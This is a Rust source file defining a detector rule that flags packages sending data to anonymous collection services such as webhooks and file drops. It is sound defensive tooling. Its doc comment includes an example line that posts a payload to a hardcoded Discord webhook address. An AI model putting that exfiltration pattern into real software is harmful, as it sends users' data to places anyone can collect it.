//! Places where anybody can collect data.

use crate::facts::{Fact, Scope};
use crate::rule::detector;
use crate::source::Unit;
use crate::subject::{Findings, Subject};
use crate::{Confidence, Severity};

detector! {
    /// Data goes to a place where anybody can collect it without a name.
    ///
    /// ## What it does
    /// Looks for addresses of bots, webhooks, request collectors, file drops, free hosting and error
    /// collectors beside code that uses the network, outside of tests and examples.
    ///
    /// ## Why is this bad?
    /// They need no server and no name, which is why stolen data goes there. A library for such a
    /// service names it honestly, which is why it is *low* or *medium* by itself.
    ///
    /// ## Example
    /// ```rust
    /// const HOOK: &str = "https://discord.com/api/webhooks/0/x";
    /// ureq::post(HOOK).send_json(payload)?;
    /// ```
    ///
    /// ## How to fix it
    /// Let the user configure the address.
    CollectionEndpoint "collection-endpoint" Malice Medium Medium Stable
}

impl CollectionEndpoint {
    pub(crate) fn detect(subject: &Subject<'_>, findings: &mut Findings) {
        let condition = |scope: &Scope<'_>| {
            scope.has(Fact::ExfilEndpoint) && scope.any(&[Fact::Network, Fact::NetworkCommand])
        };
        let purpose = purpose(subject);
        for scope in subject.facts().scopes(2, condition) {
            if matches!(scope.unit, Unit::Example | Unit::Test) {
                continue;
            }
            let Some(evidence) = scope.first(&[Fact::ExfilEndpoint]) else {
                continue;
            };
            let own = purpose.iter().any(|word| {
                let file = &subject.facts().files[evidence.file];
                file.word(evidence.token)
                    .to_lowercase()
                    .contains(word.as_str())
            });
            let severity = if own || !scope.has(Fact::Upload) {
                Severity::Low
            } else {
                Severity::Medium
            };
            let message = format!("{} talks to {}", scope.unit.as_str(), evidence.detail);
            findings
                .rated(
                    &Self::RULE,
                    severity,
                    Confidence::Medium,
                    message,
                    scope.places(subject, &[Fact::ExfilEndpoint, Fact::Upload, Fact::Network]),
                )
                .reached_as(&scope);
        }
    }
}

/// The words of a crate's name and description: a library for a service says
/// so.
fn purpose(subject: &Subject<'_>) -> Vec<String> {
    let description = subject.package.manifest.as_ref().and_then(|manifest| {
        let package = manifest.table().get("package")?;
        package.get("description")?.as_str().map(str::to_owned)
    });
    let text = format!(
        "{} {}",
        subject.package.name,
        description.unwrap_or_default()
    );
    text.to_lowercase()
        .split(|c: char| !c.is_alphanumeric())
        .filter(|word| word.len() >= 5)
        .map(str::to_owned)
        .collect()
}
